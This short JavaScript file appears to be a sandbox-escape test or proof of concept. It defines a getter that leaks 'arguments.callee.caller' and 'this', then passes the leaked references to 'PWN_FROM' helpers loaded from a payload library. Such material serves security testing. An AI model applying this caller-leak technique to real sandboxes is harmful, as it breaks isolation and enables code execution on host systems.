require("./lib/payload.js");
var leaked = [];
var d = { later: 1 }; Object.defineProperty(d, "getter", { enumerable: true, get: function () { leaked.push(arguments.callee.caller, this); return "v"; } });
CLI_DEFAULTS(d);
PWN_FROM(later, "later");
leaked.forEach(function (v, i) { if (v) PWN_FROM(v, "cd" + i); });
